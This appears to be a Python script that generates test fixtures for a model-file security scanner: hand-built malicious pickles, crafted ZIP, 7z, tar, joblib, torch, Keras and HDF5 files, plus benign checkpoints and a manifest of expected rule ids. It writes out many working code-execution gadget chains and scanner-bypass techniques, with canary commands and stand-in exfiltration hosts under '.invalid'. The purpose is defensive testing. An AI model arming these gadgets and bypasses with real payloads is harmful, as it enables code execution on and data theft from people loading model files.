#!/usr/bin/python3
"""Builds tests/fixtures/serialized: one inert sample per bypass of model-formats.md §3 and real
benign checkpoints, plus MANIFEST (path, expected rule ids or "clean").

Run with Debian's /usr/bin/python3 (python3-torch, python3-numpy, python3-joblib, python3-h5py,
python3-lz4 for the benign checkpoints and the torch/joblib/HDF5 layouts). Malicious samples are
assembled opcode by opcode and are never loaded; payloads only name `echo canary > /tmp/modelgate-canary` or hosts under `.invalid`.
Nothing here unpickles anything.
"""
import io
import json
import os
import pickle
import struct
import sys
import tarfile
import types
import zipfile
import zlib

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests", "fixtures", "serialized")
CMD = "echo canary > /tmp/modelgate-canary"
CODE = "__import__('os').system('echo canary > /tmp/modelgate-canary')"
MANIFEST = []


# ---------------------------------------------------------------- opcode assembly
def sbu(s):
    b = s.encode()
    return (b"\x8c" + bytes([len(b)]) + b) if len(b) < 256 else (b"X" + struct.pack("<I", len(b)) + b)


def sg(module, name):
    """SHORT_BINUNICODE module, SHORT_BINUNICODE name, STACK_GLOBAL."""
    return sbu(module) + sbu(name) + b"\x93"


def body(value):
    """Opcodes that push `value` (plain data only), without PROTO/STOP."""
    return pickle.dumps(value, protocol=3)[2:-1]


def call(module, name, *args):
    return sg(module, name) + body(tuple(args)) + b"R"


def p4(ops):
    return b"\x80\x04" + ops + b"."


def write(rel, data, expect):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    MANIFEST.append((rel, expect))


def gadget(rel, module, name, *args, expect="SZ201"):
    write(rel, p4(call(module, name, *args)), expect)


def zip_bytes(members, compression=zipfile.ZIP_STORED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for n, d in members:
            z.writestr(zipfile.ZipInfo(n, date_time=(2026, 1, 1, 0, 0, 0)), d, compress_type=compression)
    return buf.getvalue()


EVIL = p4(call("posix", "system", CMD))


# ---------------------------------------------------------------- 3.A denylist gaps
def section_a():
    gadget("a/A01-pip-main.pkl", "pip", "main", ["install", "canary-pkg.invalid", "--no-input", "-q"])
    gadget("a/A02-ssl-get-server-certificate.pkl", "ssl", "get_server_certificate", ("data.canary.invalid", 443))
    gadget("a/A03-inductor-compile-file.pkl", "torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", CMD])
    gadget("a/A03-pydoc-pipepager.pkl", "pydoc", "pipepager", "", CMD)
    write("a/A03-functools-partial-torch-load.pkl",
          p4(sg("functools", "partial") + sg("torch", "load") + sbu("x.pt") + b"\x86R"), "SZ201")
    gadget("a/A03-venv-create.pkl", "venv", "create", "venv", False, False, True, False, "$(" + CMD + ")")
    gadget("a/A04-timeit.pkl", "timeit", "timeit", "", CODE)
    gadget("a/A04-numpy-runstring.pkl", "numpy.testing._private.utils", "runstring", CODE, {})
    gadget("a/A05-config-module-load-config.pkl", "torch.utils._config_module", "ConfigModule.load_config", {}, EVIL)
    for n, (m, f, args) in enumerate([
        ("torch.utils.bottleneck.__main__", "run_cprofile", (CODE, {})),
        ("torch.utils.bottleneck.__main__", "run_autograd_prof", (CODE, {})),
        ("torch._dynamo.guards", "GuardBuilder.get", ({}, CODE)),
        ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ({}, CODE, [])),
        ("torch.utils.collect_env", "run", (CMD,)),
        ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", EVIL)),
        ("torch.jit.unsupported_tensor_ops", "execWrapper", (CODE, {}, {})),
    ]):
        gadget(f"a/A06-torch-gadget-{n}.pkl", m, f, *args)
    for n, (m, f, args) in enumerate([
        ("trace", "Trace.runctx", ({}, CODE, {}, {})),
        ("profile", "Profile.runctx", ({}, CODE, {}, {})),
        ("code", "InteractiveInterpreter.runcode", ({}, CODE)),
        ("idlelib.run", "Executive.runcode", ({}, CODE)),
        ("idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, CODE)),
        ("idlelib.calltip", "get_entity", (CODE,)),
        ("lib2to3.pgen2.grammar", "Grammar.loads", ({}, EVIL)),
        ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, {}, '""+' + CODE)),
        ("doctest", "debug_script", (CODE, True)),
        ("ensurepip", "_run_pip", ("[(" + CODE + ",)]",)),
        ("cProfile", "run", (CODE,)),
    ]):
        gadget(f"a/A07-stdlib-runner-{n}.pkl", m, f, *args)
    gadget("a/A08-asyncio-unix-events.pkl", "asyncio.unix_events", "_UnixSubprocessTransport._start", {}, CMD, True, None, None, None, 0)
    gadget("a/A09-distutils-write-file.pkl", "distutils.file_util", "write_file", "/tmp/modelgate-canary", ["canary"])
    # A10: ctypes.CDLL(None) -> itemgetter('system') -> methodcaller('__call__', cmd)
    write("a/A10-ctypes-chain.pkl", p4(
        sg("operator", "methodcaller") + body(("__call__", CMD.encode())) + b"R" +
        sg("operator", "itemgetter") + body(("system",)) + b"R" +
        sg("ctypes", "CDLL") + body((None,)) + b"R" + b"\x85R" + b"\x85R"), "SZ201,SZ204")
    # A11: pydoc.locate('os') then methodcaller('system', cmd)
    write("a/A11-pydoc-locate.pkl", p4(
        sg("operator", "methodcaller") + body(("system", CMD)) + b"R" + call("pydoc", "locate", "os") + b"\x85R"),
          "SZ201,SZ204")
    write("a/A12-pty-spawn-obj.pkl", b"\x80\x04(cpty\nspawn\n]\x8c\x07/bin/shao.", "SZ201")
    gadget("a/A13-f2py-getlincoef.pkl", "numpy.f2py.crackfortran", "getlincoef", CODE, [])
    gadget("a/A13-f2py-eval-length.pkl", "numpy.f2py.crackfortran", "_eval_length", CODE, None)
    write("a/A15-operator-attrgetter-proto0.pkl",
          b"cbuiltins\n__import__\n(Vos\ntRp0\n0c_operator\nattrgetter\n(Vsystem\ntR(g0\ntR(V" + CMD.encode() + b"\ntR.",
          "SZ201,SZ204")
    write("a/A16-fileio-urlopen.pkl", p4(
        sg("urllib.request", "urlopen") + sbu("https://exfil.invalid/") + sg("_io", "FileIO") + body(("/etc/hosts", "r")) +
        b"R" + b"\x86R"), "SZ201")
    write("a/A17-types-codetype.pkl", p4(sg("types", "CodeType") + body((0, 0, 0, 0, 0, 0, b"d\x00S\x00", (), (), (), "x", "x", 1, b""))
                                       + b"R"), "SZ201")
    gadget("a/A17-cloudpickle-make-function.pkl", "cloudpickle.cloudpickle", "_make_function", None, {}, None, None, None)
    gadget("a/A18-logging-filehandler.pkl", "logging", "FileHandler", "/tmp/modelgate-canary.log")
    gadget("a/A19-profile-run.pkl", "profile", "run", CODE)
    # A20 as published: pkgutil.resolve_name('os:system')('id')
    write("a/A20-pkgutil-resolve-name.pkl",
          b"\x80\x04" + sg("pkgutil", "resolve_name") + sbu("os:system") + b"\x85R" + sbu(CMD) + b"\x85R.", "SZ201,SZ204")
    for n, (m, f, args) in enumerate([
        ("uuid", "_get_command_stdout", (CMD,)),
        ("_osx_support", "_read_output", (CMD,)),
        ("_osx_support", "_find_build_tool", ("x; " + CMD + " #",)),
        ("_aix_support", "_read_cmd_output", (CMD,)),
        ("imaplib", "IMAP4_stream", (CMD,)),
        ("_pyrepl.pager", "pipe_pager", ("text", CMD)),
        ("test.support.script_helper", "assert_python_ok", ("-c", CODE)),
    ]):
        gadget(f"a/A21-hidden-runner-{n}.pkl", m, f, *args)
    for n, (m, f, args) in enumerate([
        ("importlib", "import_module", ("os",)),
        ("marshal", "loads", (b"\xe3" + b"\x00" * 16,)),
        ("mailcap", "findmatch", ({}, "x", "view", CMD)),
        ("builtins", "__import__", ("os",)),
        ("importlib.util", "find_spec", ("os",)),
    ]):
        gadget(f"a/A22-open-in-picklescan-{n}.pkl", m, f, *args)
    write("a/A23-marshal-functiontype.pkl", p4(
        sg("types", "FunctionType") + call("marshal", "loads", b"\xe3" + b"\x00" * 16) + b"}" + b"\x86R" + b")R"),
          "SZ201")
    for n, (m, f, args) in enumerate([
        ("runpy", "run_path", ("/tmp/x.py",)),
        ("code", "interact", ()),
        ("multiprocessing", "Process", ()),
        ("ctypes", "pythonapi", ()),
    ]):
        gadget(f"a/A24-fickling-gap-{n}.pkl", m, f, *args)
    for n, (m, f, args) in enumerate([
        ("_posixsubprocess", "fork_exec", ([b"/bin/sh"], [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1, False, False, None, None, None, -1, None)),
        ("site", "execsitecustomize", ()),
        ("atexit", "_run_exitfuncs", ()),
        ("_interpreters", "run_string", (0, CODE)),
        ("_xxsubinterpreters", "run_string", (0, CODE)),
    ]):
        gadget(f"a/A25-private-stdlib-{n}.pkl", m, f, *args)
    for n, (m, f, args, expect) in enumerate([
        ("multiprocessing.util", "spawnv_passfds", (b"/bin/sh", ("/bin/sh", "-c", CMD), ()), "SZ201"),
        ("mlflow.projects.backend.local", "_run_entry_point", (CMD, ".", "", ""), "SZ201"),
        ("pandas.io.parsers.readers", "read_csv", ("https://exfil.invalid/?x",), "SZ201"),
    ]):
        gadget(f"a/A27-hf-malware-{n}.pkl", m, f, *args, expect=expect)
    for n, (m, f, args) in enumerate([
        ("getpass", "getuser", ()), ("resource", "setrlimit", (0, (0, 0))), ("syslog", "syslog", ("x",)),
        ("trace", "Trace", ()), ("nntplib", "NNTP", ("news.invalid",)), ("lzma", "open", ("/etc/hosts",)),
        ("bz2", "open", ("/etc/hosts",)), ("gzip", "open", ("/etc/hosts",)), ("py_compile", "compile", ("/tmp/x.py",)),
        ("weakref", "finalize", (None, None)), ("atexit", "register", (None,)), ("mmap", "mmap", (-1, 16)),
        ("dbm", "open", ("/tmp/x",)), ("xml.dom.minidom", "parse", ("/etc/hosts",)),
        ("xml.etree.ElementTree", "parse", ("/etc/hosts",)), ("http.server", "HTTPServer", (("", 0), None)),
        ("socketserver", "TCPServer", (("", 0), None)), ("glob", "glob", ("/*",)),
    ]):
        gadget(f"a/A28-single-gadget-{n}.pkl", m, f, *args)
    gadget("a/A29-pickle-loads.pkl", "pickle", "loads", EVIL)
    gadget("a/A29-_pickle-loads.pkl", "_pickle", "loads", EVIL)


# ---------------------------------------------------------------- 3.B parser differentials
def section_b():
    write("b/B01-stack-global-string-no-proto.pkl", b"S'os'\nS'system'\n\x93S'" + CMD.encode() + b"'\n\x85R.", "SZ201")
    write("b/B02-memo-confusion.pkl", b"\x80\x04" +
          b"T\x02\x00\x00\x00osq\x00" + b"T\x06\x00\x00\x00systemq\x01" +
          b"T\x0c\x00\x00\x00torch._utils\x94" + b"T\x12\x00\x00\x00_rebuild_tensor_v2\x94" +
          b"h\x00h\x01\x93" + sbu(CMD) + b"\x85R.", "SZ201")
    write("b/B03-memo-by-count.pkl",
          b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(V" + CMD.encode() + b"\ntR.", "SZ201")
    # B4: BUILD plants strings on numpy.prod, GLOBAL reads them back, STACK_GLOBAL resolves them.
    write("b/B04-build-on-global.pkl", b"\x80\x04" +
          b"cnumpy\nprod\n}" + sbu("a") + sbu("os") + b"s" + sbu("b") + sbu("system") + b"sb0" +
          b"cnumpy\nprod.a\nq\x00cnumpy\nprod.b\nq\x0100h\x00h\x01\x93" + sbu(CMD) + b"\x85R.",
          "SZ204,SZ203,SZ202")
    # B5: names computed at load time (str.join), then STACK_GLOBAL.
    join = sg("builtins", "str.join")
    write("b/B05-runtime-names.pkl", b"\x80\x04" +
          join + body(("", ["o", "s"])) + b"Rq\xf0" + b"0" +
          join + body(("", ["sys", "tem"])) + b"Rq\xf1" + b"0" +
          b"h\xf0h\xf1\x93" + sbu(CMD) + b"\x85R.", "SZ203,SZ202")
    write("b/B06-missing-memo.pkl", b"\x80\x04cos\nsystem\nV" + CMD.encode() + b"\n\x85R0" + sbu("os") +
          b"\x94h\x03h\x00\x93K\x01.", "SZ201,SZ206")
    write("b/B06-int-memo.pkl", b"\x80\x04cos\nsystem\nV" + CMD.encode() + b"\n\x85R0J*\x00\x00\x00\x94h\x00" +
          sbu("system") + b"\x93K\x01.", "SZ201,SZ203")
    write("b/B08-broken-tail.pkl", b"cbuiltins\nexec\n(V" + CODE.encode() + b"\ntR\xff\xff\xff", "SZ201")
    write("b/B08-truncated.pkl", b"cbuiltins\nexec\n(X\x00\x01\x00\x00" + CODE.encode(), "SZ201")
    # B9: frame straddle, as in the advisory.
    hidden = (b"cos\nsystem\n(V" + CMD.encode() + b"\ntR" + b"(").ljust(261, b"N")
    frame_straddle = (b"\x80\x05N" + b"V" + b"a" * (8192 * 16 - 17) + b"\n0" + b"(" +
                      b"\x95" + struct.pack("<Q", 2) + b"B" + struct.pack("<I", 0x107) + b"\x00\x00" + hidden + b"1.")
    write("b/B09-frame-straddle.pkl", frame_straddle, "SZ206,SZ201")
    write("b/B10-obj-discarded.pkl", b"\x80\x04(" + sg("smtplib", "SMTP") + sbu("127.0.0.1") + b"o0N.", "SZ201")
    write("b/B13-stacked.pkl", pickle.dumps(["a"], 4) + EVIL, "SZ201")
    write("b/B14-dis-stricter.pkl", b"(K\x01." + EVIL, "SZ201")
    write("b/B15-dotted-name.pkl", p4(call("pathlib", "os.system", CMD)), "SZ201")
    write("b/B16-builtins-via-numpy.pkl", p4(sg("builtins", "dict.get") + sg("numpy", "__builtins__") + sbu("exec") +
                                           b"\x86R" + sbu(CODE) + b"\x85R"), "SZ201,SZ204")
    write("b/B17-builtins-chain.pkl", b"\x80\x04cbuiltins\ngetattr\n" + sg("builtins", "__import__") + sbu("os") + b"\x85R" +
          sbu("system") + b"\x86R" + sbu(CMD) + b"\x85R.", "SZ201,SZ204")
    write("b/B18-unused-variable-defeat.pkl", b"\x80\x04cpydoc\nlocate\nS'ctypes.windll.kernel32.WinExec'\n\x85Rp0\n0g0\n" +
          b"C\x08calc.exeK\x01\x86Rp1\n0cbuiltins\nException\n)Rp2\n}S'rce_status'\ng1\nsb.", "SZ201,SZ204")
    write("b/B19-ast-parse.pkl", b"\x80\x04" + sg("ast", "parse") + b".", "SZ202")
    write("b/B20-ext-opcode.pkl", b"\x80\x02\x82\xf0X" + struct.pack("<I", len(CMD)) + CMD.encode() + b"\x85R.", "SZ205,SZ204")
    write("b/B21-map-callback.pkl", p4(sg("builtins", "map") + sg("posix", "system") + body([CMD]) + b"\x86R"),
          "SZ201,SZ202")


# ---------------------------------------------------------------- 3.C containers
def set_flags(data, name, flag):
    d = bytearray(data)
    nb = name.encode()
    i = d.find(b"PK\x03\x04")
    while i != -1:
        n = struct.unpack_from("<H", d, i + 26)[0]
        if bytes(d[i + 30:i + 30 + n]) == nb:
            struct.pack_into("<H", d, i + 6, flag)
        i = d.find(b"PK\x03\x04", i + 4)
    i = d.find(b"PK\x01\x02")
    while i != -1:
        n = struct.unpack_from("<H", d, i + 28)[0]
        if bytes(d[i + 46:i + 46 + n]) == nb:
            struct.pack_into("<H", d, i + 8, flag)
        i = d.find(b"PK\x01\x02", i + 4)
    return bytes(d)


def num7(v):
    """7z's variable-length number: leading 1-bits of the first byte count the bytes that follow."""
    for n in range(8):
        if v < (1 << (7 * (n + 1))):
            first = ((0xFF00 >> n) & 0xFF) | (v >> (8 * n))
            return bytes([first & 0xFF]) + (v & ((1 << (8 * n)) - 1)).to_bytes(n, "little")
    return b"\xff" + struct.pack("<Q", v)


def seven_zip(name, data, attr=None, crc=None):
    """A 7z archive of one stored (Copy) member, header not encoded; `attr` is the Windows/Unix
    attribute word (None: no attributes at all), `crc` overrides the member's CRC-32."""
    uname = name.encode("utf-16-le") + b"\0\0"
    attrs = b"" if attr is None else b"\x15" + num7(6) + b"\x01\x00" + struct.pack("<I", attr)
    header = (b"\x01"                                                                   # kHeader
              b"\x04"                                                                   # kMainStreamsInfo
              + b"\x06" + num7(0) + num7(1) + b"\x09" + num7(len(data)) + b"\x00"         # kPackInfo
              + b"\x07\x0b" + num7(1) + b"\x00" + num7(1) + b"\x01\x00"                   # kUnPackInfo, Copy
              + b"\x0c" + num7(len(data)) + b"\x00"
              + b"\x08\x0a\x01" + struct.pack("<I", zlib.crc32(data) if crc is None else crc) + b"\x00"  # digests
              + b"\x00"
              + b"\x05" + num7(1) + b"\x11" + num7(len(uname) + 1) + b"\x00" + uname + attrs + b"\x00"  # kFilesInfo
              + b"\x00")
    start = struct.pack("<QQI", len(data), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + data + header


def section_c():
    write("c/C01-data-txt.pt", zip_bytes([("archive/data.txt", EVIL), ("archive/version", b"3\n")]), "SZ201")
    write("c/C01b-protoless-member.pt", zip_bytes([("archive/data.pkl", pickle.dumps({}, 2)),
                                                  ("archive/weights.bin", b"cos\nsystem\n(S'" + CMD.encode() + b"'\ntR.")]), "SZ201")
    z = zip_bytes([("archive/data.pkl", EVIL)])
    write("c/C02-local-name-mismatch.pt", z.replace(b"data.pkl", b"datap.kl", 1), "SZ301,SZ201")
    for flag in (0x1, 0x20, 0x40):
        write(f"c/C03-flag-bits-{flag:#x}.pt", set_flags(zip_bytes([("model/config.pkl", EVIL)]), "model/config.pkl", flag),
              "SZ301,SZ201")
    payload = p4(call("builtins", "exec", "print('456')"))
    write("c/C04-bad-crc.pt", zip_bytes([("archive/data.pkl", payload)]).replace(b"print('456')", b"print('123')"),
          "SZ302,SZ201")
    # C5: 7z. py7zr writes the Unix permission bits without the file-type bits (libarchive then
    # reports no file type); a reader that keeps only "regular files" skips the member.
    write("c/C05-7z-mode-without-type.7z", seven_zip("data.pkl", EVIL, (0o644 << 16) | 0x8020), "SZ201")
    write("c/C05b-7z-no-attributes.7z", seven_zip("archive/model.bin", EVIL), "SZ201")
    write("c/C05c-7z-bad-crc.7z", seven_zip("data.pkl", EVIL, (0o100644 << 16) | 0x8020, crc=0x12345678), "SZ201")  # SZ302: the source reports the CRC
    write("c/C06-plain-pickle.bin", EVIL, "SZ201")
    # C7: legacy layout whose magic number is computed by eval.
    legacy = (p4(call("builtins", "eval", "0x1950A86A20F9469CFC6C")) + pickle.dumps(1001, 2) + pickle.dumps({}, 2) +
              EVIL + pickle.dumps([], 2))
    write("c/C07-eval-magic.pt", legacy, "SZ201")
    write("c/C08-legacy-later-pickle.pt", pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) +
          pickle.dumps({"protocol_version": 1001}, 2) + EVIL + pickle.dumps([], 2) + b"\x00" * 64, "SZ201")
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for n, d in [("sys_info", pickle.dumps({"protocol_version": 1000}, 2)), ("pickle", EVIL),
                     ("storages", pickle.dumps(0, 2)), ("tensors", pickle.dumps(0, 2))]:
            info = tarfile.TarInfo(n)
            info.size = len(d)
            t.addfile(info, io.BytesIO(d))
    write("c/C09-legacy-tar.pt", buf.getvalue(), "SZ201")
    write("c/C10-model.sav", EVIL, "SZ201")
    inner = zip_bytes([("data.pkl", EVIL)])
    write("c/C12-nested-zip.pt", zip_bytes([("archive/data.pkl", pickle.dumps({}, 2)), ("archive/inner.zip", inner)]), "SZ201")
    fake = b"\x80\x02}q\x00X\x01\x00\x00\x00wq\x01ctorch._utils\n_rebuild_tensor_v2\nq\x02((X\x07\x00\x00\x00storageq\x03" \
           b"ctorch\nFakeStorage\nq\x04X\x01\x00\x00\x000q\x05X\x03\x00\x00\x00cpuq\x06K\x01tq\x07QK\x00K\x01\x85K\x01\x85\x89" \
           b"ccollections\nOrderedDict\n)Rtq\x08Rq\x09s."
    write("c/C13-fake-storage.pt", zip_bytes([("archive/data.pkl", fake), ("archive/data/0", p4(call("posix", "system", CMD)))]),
          "SZ202,SZ201")
    write("c/C14-png.pt", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "clean")


# ---------------------------------------------------------------- numpy / joblib (real libraries)
class Evil:
    def __reduce__(self):
        return (os.system, (CMD,))


class DnsExfil:
    def __reduce__(self):
        import ssl
        return (ssl.get_server_certificate, (("data.canary.invalid", 443),))


def section_numpy_joblib():
    import numpy as np
    import joblib

    def npy_bytes(arr, allow_pickle=False):
        b = io.BytesIO()
        np.save(b, arr, allow_pickle=allow_pickle)
        return b.getvalue()

    write("c/C10-object-array.npy", npy_bytes(np.array([Evil()], dtype=object), True), "SZ306,SZ201")
    b = io.BytesIO()
    np.savez(b, weights=np.zeros(4), a=np.array([Evil()], dtype=object))
    write("c/C11-object-array.npz", b.getvalue(), "SZ306,SZ201")
    write("a/A02-npy-dns-exfil.npy", npy_bytes(np.array([DnsExfil()], dtype=object), True), "SZ306,SZ201")
    # B11 / B12 with joblib itself.
    b = io.BytesIO()
    joblib.dump({"a_weights": np.zeros(1000), "z_payload": Evil()}, b)
    write("b/B11-joblib-array-tail.joblib", b.getvalue(), "SZ201")
    b = io.BytesIO()
    joblib.dump({"w": np.arange(10, dtype=np.float32), "obj": np.array([Evil()], dtype=object)}, b)
    write("b/B12-joblib-object-array.joblib", b.getvalue(), "SZ201")
    for comp in ("zlib", "gzip", "bz2", "xz", "lzma", "lz4"):  # lz4: python3-lz4
        b = io.BytesIO()
        joblib.dump({"a": np.zeros(100), "z": Evil()}, b, compress=(comp, 3))
        write(f"b/B11-joblib-{comp}.joblib", b.getvalue(), "SZ201")
    # joblib.load reads the compression from the magic, not the name.
    write("b/B11-joblib-lz4-any-name.bin", b.getvalue(), "SZ201")
    # Cut inside the frame: the unpickler has run the payload before it meets the cut.
    b = io.BytesIO()
    joblib.dump({"a": Evil(), "z": np.arange(200000, dtype=np.float64)}, b, compress=("lz4", 3))
    write("b/B11-joblib-lz4-truncated.joblib", b.getvalue()[: len(b.getvalue()) // 2], "SZ201")

    # Benign: numpy, npz, joblib of arrays and of a fitted sklearn-like estimator.
    write("benign/weights.npy", npy_bytes(np.arange(12, dtype=np.float64).reshape(3, 4)), "clean")
    b = io.BytesIO()
    np.savez(b, w=np.ones((2, 2), dtype=np.float32), b=np.zeros(3, dtype=np.int64))
    write("benign/weights.npz", b.getvalue(), "clean")
    b = io.BytesIO()
    np.savez_compressed(b, w=np.ones((2, 2), dtype=np.float32))
    write("benign/weights-compressed.npz", b.getvalue(), "clean")
    mod = types.ModuleType("sklearn.linear_model._logistic")

    class LogisticRegression:
        def __init__(self):
            self.coef_ = np.array([[0.5, -0.25]])
            self.intercept_ = np.array([0.1])
            self.classes_ = np.array([0, 1])
            self.C = 1.0
            self.penalty = "l2"
    LogisticRegression.__module__ = mod.__name__
    LogisticRegression.__qualname__ = "LogisticRegression"
    mod.LogisticRegression = LogisticRegression
    for name in ("sklearn", "sklearn.linear_model", "sklearn.linear_model._logistic"):
        sys.modules.setdefault(name, types.ModuleType(name))
    sys.modules["sklearn.linear_model._logistic"] = mod
    for comp in (0, 3, ("lz4", 3)):
        b = io.BytesIO()
        joblib.dump({"model": LogisticRegression(), "scaler_mean": np.zeros(2), "labels": ["a", "b"]}, b, compress=comp)
        write(f"benign/estimator-{comp if isinstance(comp, int) else comp[0]}.joblib", b.getvalue(), "clean")
    write("benign/estimator.pkl", pickle.dumps(LogisticRegression(), 4), "clean")
    write("benign/estimator-proto2.pkl", pickle.dumps(LogisticRegression(), 2), "clean")


# ---------------------------------------------------------------- torch (real checkpoints)
def section_torch():
    import torch

    class Net(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.fc = torch.nn.Linear(4, 2)
            self.bn = torch.nn.BatchNorm1d(2)

        def forward(self, x):
            return self.bn(self.fc(x))

    torch.manual_seed(0)
    net = Net()
    for name, kw in [("state-dict.pt", {}), ("state-dict-legacy.pt", {"_use_new_zipfile_serialization": False})]:
        b = io.BytesIO()
        torch.save(net.state_dict(), b, **kw)
        write("benign/" + name, b.getvalue(), "clean")
    b = io.BytesIO()
    torch.save({"epoch": 3, "model": net.state_dict(), "lr": 0.1, "step": torch.tensor(7)}, b)
    write("benign/training-checkpoint.pt", b.getvalue(), "clean")
    b = io.BytesIO()
    torch.save({"w": torch.zeros(4, dtype=torch.float16), "i": torch.arange(3)}, b, pickle_protocol=4)
    write("benign/tensors-proto4.pt", b.getvalue(), "clean")
    b = io.BytesIO()
    torch.save(Evil(), b, _use_new_zipfile_serialization=False)
    write("c/C08-torch-legacy-evil.pt", b.getvalue(), "SZ201")
    b = io.BytesIO()
    torch.save({"model": net.state_dict(), "hook": Evil()}, b)
    write("c/C08-torch-zip-evil.pt", b.getvalue(), "SZ201")
    # F2: a storage member shorter than data.pkl declares.
    b = io.BytesIO()
    torch.save({"w": torch.arange(16, dtype=torch.float32)}, b)
    src = zipfile.ZipFile(io.BytesIO(b.getvalue()))
    members = []
    for info in src.infolist():
        data = src.read(info.filename)
        if info.filename.endswith("/data/0"):
            data = data[:8]
        members.append((info.filename, data))
    write("f/F02-storage-size-mismatch.pt", zip_bytes(members), "SZ304")
    # Plain pickles of tensors (OpenMMLab test data): each storage is torch.storage._load_from_bytes
    # of a legacy torch stream, as _codecs.encode text (protocol 2) or BINBYTES (protocol 4).
    for proto in (2, 4):
        write(f"benign/tensor-pickle-proto{proto}.pkl", pickle.dumps({"w": torch.zeros(3), "i": torch.arange(2)}, protocol=proto),
              "clean")
    b = io.BytesIO()
    torch.save(Evil(), b, _use_new_zipfile_serialization=False)
    write("a/A30-load-from-bytes-evil.pkl", p4(call("torch.storage", "_load_from_bytes", b.getvalue())), "SZ201")
    scripted = torch.jit.script(net.eval())
    b = io.BytesIO()
    torch.jit.save(scripted, b)
    write("f/F01-torchscript.pt", b.getvalue(), "SZ303")


# ---------------------------------------------------------------- Keras .keras
def keras_zip(layers, model_class="Sequential"):
    cfg = {"module": "keras", "class_name": model_class, "config": {"name": "m", "layers": layers},
           "registered_name": None}
    meta = {"keras_version": "3.8.0", "date_saved": "2026-01-01@00:00:00"}
    return zip_bytes([("metadata.json", json.dumps(meta)), ("config.json", json.dumps(cfg))])


def dense(name):
    return {"module": "keras.layers", "class_name": "Dense", "config": {"name": name, "units": 2, "activation":
            {"module": "keras.activations", "class_name": "function", "config": "relu", "registered_name": "relu"}},
            "registered_name": None}


LAMBDA = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {
    "class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA8wQAAACXAHkAKQFO"}}}, "registered_name": None}


def section_keras():
    write("f/F04-lambda.keras", keras_zip([dense("d"), LAMBDA]), "SZ401")
    write("f/F05-foreign-function.keras", keras_zip([dense("d"), {"module": "builtins", "class_name": "function",
                                                                   "config": "exec", "registered_name": None}]), "SZ402")
    write("f/F05-subprocess-run.keras", keras_zip([{"module": "subprocess", "class_name": "run", "config": {},
                                                     "registered_name": None}]), "SZ402")
    write("f/F07-enable-unsafe.keras", keras_zip([{"module": "keras.layers", "class_name": "Lambda", "config": {"function": {
        "module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"}}}]), "SZ401,SZ402")
    write("f/F09-torch-module-wrapper.keras", keras_zip([{"module": "keras.layers", "class_name": "TorchModuleWrapper",
                                                           "config": {"module": "gAR..."}}]), "SZ402")
    write("f/F10-stringlookup-path.keras", keras_zip([{"module": "keras.layers", "class_name": "StringLookup",
                                                        "config": {"vocabulary": "/etc/passwd"}}]), "SZ403")
    write("f/F11-tfsmlayer.keras", keras_zip([{"module": "keras.layers", "class_name": "TFSMLayer",
                                                "config": {"filepath": "/tmp/attacker_savedmodel"}}]), "SZ403")
    nested = {"module": "keras", "class_name": "Sequential", "config": {"name": "inner", "layers": [dense("x"), LAMBDA]}}
    write("f/F14a-nested-lambda.keras", keras_zip([dense("d"), nested]), "SZ401")
    write("f/F14b-public-function.keras", keras_zip([{"module": "keras.layers", "class_name": "Lambda", "config": {"function": {
        "module": "keras.visualization", "class_name": "function", "config": "plot_image_gallery"}}}]), "SZ401,SZ402")
    write("benign/dense.keras", keras_zip([dense("a"), dense("b")]), "clean")
    # F15: a pickled Keras model reloads itself with safe_mode=False.
    write("f/F15-keras-reduce-unsafe-load.pkl", p4(call("keras.src.saving.saving_lib", "_load_model_from_fileobj",
                                                        b"PK...", None, None, False)), "SZ201")


def section_h5():
    import base64
    import marshal
    import h5py
    # Keras 2 func_dump: base64 of the marshalled code object (never run; marshal.dumps only).
    code = base64.b64encode(marshal.dumps((lambda x: __import__("os").system(CMD)).__code__)).decode()
    lam = {"class_name": "Sequential", "config": {"name": "m", "layers": [
        {"class_name": "Dense", "config": {"name": "d", "units": 2}},
        {"class_name": "Lambda", "config": {"name": "l", "function": [code, None, None],
                                            "function_type": "lambda"}}]}}
    path = os.path.join(OUT, "f/F08-legacy-h5-lambda.h5")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = json.dumps(lam)
        f.attrs["keras_version"] = "2.12.0"
        f.create_group("model_weights").create_dataset("w", data=[1.0, 2.0])
    MANIFEST.append(("f/F08-legacy-h5-lambda.h5", "SZ401"))
    # F12: an external link in model.weights.h5 inside a .keras archive, and in a legacy .h5.
    path = os.path.join(OUT, "f/F12-external-link.h5")
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"name": "m", "layers": []}})
        f["layers/dense/vars/0"] = h5py.ExternalLink("/etc/passwd", "/x")
    MANIFEST.append(("f/F12-external-link.h5", "SZ404"))
    # F12b: a dataset whose raw data lives in another file (external storage).
    path = os.path.join(OUT, "f/F12b-external-storage.h5")
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"name": "m", "layers": []}})
        f.create_dataset("model_weights/dense/kernel", shape=(4,), dtype="u1", external=[("/etc/hostname", 0, 4)])
    MANIFEST.append(("f/F12b-external-storage.h5", "SZ404"))
